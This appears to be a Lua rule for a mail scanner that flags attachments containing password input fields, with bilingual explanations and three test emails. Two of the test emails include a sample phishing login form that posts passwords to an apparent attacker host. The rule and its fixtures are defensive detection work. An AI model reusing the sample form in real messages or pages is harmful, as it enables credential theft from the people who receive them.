return rule {
  id = "attachments/password-form",
  version = 1,
  section = "attachments",
  weight = 1.5,
  grade = "fact",
  title = { ja = "添付の中にパスワード入力欄", en = "A password field in an attachment" },
  explain = {
    ja = "添付された Web ページ「{name}」にパスワードの入力欄がある。",
    en = "The attached page \"{name}\" asks for a password.",
  },
  when = { "attachment", "attachment:page" },
  match = function(mail, evidence)
    for _, file in ipairs(mail.attachments) do
      if file.html.has_password_input or file.hidden.has_password_input then
        local field = file.text:match("<input[^<>]{0,200}type ?= ?[\"']?password")
        evidence:add(field or file)
        evidence:set("name", file.name)
      end
    end
    return evidence.count > 0
  end,
  false_positives = { "Encrypted mail that opens with a password." },
  tests = {
    { name = "login page", expect = true, mail = [[
From: a@example.com
To: info@example.jp
Subject: x
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain

See the file.
--b
Content-Type: text/html; name="login.html"
Content-Disposition: attachment; filename="login.html"

<form action="https://nlugjoc.cn/"><input type="password" name="p"></form>
--b--
]] },
    { name = "a page by its content only", expect = true, mail = [[
From: a@example.com
To: info@example.jp
Subject: x
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain; charset=utf-8

See the file.
--b
Content-Type: application/octet-stream; name="login"
Content-Disposition: attachment; filename="login"

<!doctype html><html><body><form action="https://nlugjoc.cn/"><input type="password" name="p"></form></body></html>
--b--
]] },
    { name = "page without", expect = false, mail = [[
From: a@example.com
To: info@example.jp
Subject: x
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain

See the file.
--b
Content-Type: text/html; name="page.html"
Content-Disposition: attachment; filename="page.html"

<p>Hello</p>
--b--
]] },
  },
}
